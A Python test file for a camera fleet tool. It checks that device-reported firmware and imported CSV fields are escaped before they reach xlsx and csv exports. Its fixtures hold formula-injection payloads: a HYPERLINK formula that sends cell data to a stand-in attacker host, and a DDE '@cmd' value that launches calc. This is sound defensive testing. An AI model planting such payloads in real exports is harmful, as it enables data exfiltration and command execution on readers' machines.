"""Exports cannot attack their reader: hostile text from a device or an import never becomes a spreadsheet formula.

End to end, as it would happen: a camera reports a formula as its firmware, a coordinator's file carries formulas in
its text columns, the camera is polled, and the inventory and decision overview are opened with openpyxl and
Python's csv module, as a spreadsheet program would read them.
"""

from __future__ import annotations

import asyncio
import csv
import io
import json
from pathlib import Path

import pytest
from openpyxl import load_workbook

from fleet.spreadsheet import FORMULA_STARTS
from simulator.fleet import SimulatedFleet
from tests.conftest import run_cli as run

# Text only: nothing here is ever requested.
HYPERLINK = '=HYPERLINK("https://attacker.invalid/?d="&B2&C2,"Axis")'
FLEET = (
    "name,host,onvif_port,snmp_port,rtsp_port,declared_manufacturer,declared_model,location,area\n"
    'H-1,127.93.0.1,8080,1161,8554,Axis Communications,"+SUM(1;2)","@cmd|\' /C calc\'!A0","-2+3"\n'
)


def _text_cells_are_safe(values: list[object]) -> None:
    for value in values:
        if isinstance(value, str):
            assert not value.startswith(FORMULA_STARTS), value


@pytest.mark.usefixtures("database")
async def test_device_and_imported_text_reaches_spreadsheets_as_text(env: dict[str, str], tmp_path: Path) -> None:
    fleet = tmp_path / "fleet.csv"
    fleet.write_text(FLEET)
    imported = await asyncio.to_thread(run, env, "cameras", "import", str(fleet))
    assert imported.returncode == 0, imported.stderr
    async with SimulatedFleet.from_csv(fleet, snapshot_size=(160, 90)) as simulated:
        await simulated.camera("H-1").update(firmware=HYPERLINK)
        polled = await asyncio.to_thread(run, env, "poll")
        assert polled.returncode == 0, polled.stderr
    listed = await asyncio.to_thread(run, env, "cameras", "list", "--json")
    # The device's answer is kept as it came: only what is written for a spreadsheet is neutralised.
    assert json.loads(listed.stdout)[0]["observed"]["firmware"] == HYPERLINK

    book = tmp_path / "inventory.xlsx"
    done = await asyncio.to_thread(run, env, "export", "inventory", "--format", "xlsx", "--output", str(book))
    assert done.returncode == 0, done.stderr
    for sheet in load_workbook(book).worksheets:
        for row in sheet.iter_rows():
            assert all(cell.data_type != "f" for cell in row), [cell.value for cell in row]
            _text_cells_are_safe([cell.value for cell in row])
    cameras = load_workbook(book)["Cameras"]
    header = [cell.value for cell in cameras[1]]
    row = dict(zip(header, [cell.value for cell in cameras[2]], strict=True))
    assert row["firmware"] == "'" + HYPERLINK and row["declared_model"] == "'+SUM(1;2)"
    assert row["area"] == "'-2+3" and isinstance(row["age_years"], int | float | None)

    table = tmp_path / "inventory.csv"
    done = await asyncio.to_thread(run, env, "export", "inventory", "--format", "csv", "--output", str(table))
    assert done.returncode == 0, done.stderr
    rows = list(csv.DictReader(io.StringIO(table.read_text(encoding="utf-8-sig"))))
    for line in rows:
        _text_cells_are_safe(list(line.values()))
    assert rows[0]["firmware"] == "'" + HYPERLINK and rows[0]["location"] == "'@cmd|' /C calc'!A0"
